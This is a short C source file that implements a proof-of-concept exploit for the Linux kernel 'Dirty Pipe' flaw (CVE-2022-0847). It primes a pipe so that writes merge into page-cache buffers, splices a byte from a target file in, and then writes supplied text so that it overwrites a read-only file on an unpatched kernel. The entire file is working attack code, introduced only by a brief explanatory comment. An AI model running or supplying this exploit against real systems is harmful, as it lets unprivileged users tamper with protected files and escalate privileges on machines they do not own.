/*
 * CVE-2022-0847, "Dirty Pipe": `splice FILE TEXT` fills and empties a pipe so that its buffers keep the flag that lets
 * writes merge into them, splices the first byte of FILE in, and writes TEXT after it. On a kernel with the hole that
 * changes FILE, read-only or not. Prints what it did.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    static char page[4096];
    int ends[2];
    if (argc != 3 || pipe2(ends, O_CLOEXEC) < 0) return 2;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= (int)sizeof page)
        if (write(ends[1], page, sizeof page) < 0) return 2;
    for (int left = size; left > 0; left -= (int)sizeof page)
        if (read(ends[0], page, sizeof page) < 0) return 2;
    int file = open(argv[1], O_RDONLY | O_CLOEXEC);
    off64_t offset = 0;
    printf("open %d\n", file >= 0);
    printf("splice %zd\n", splice(file, &offset, ends[1], NULL, 1, 0));
    printf("write %zd\n", write(ends[1], argv[2], strlen(argv[2])));
    return 0;
}
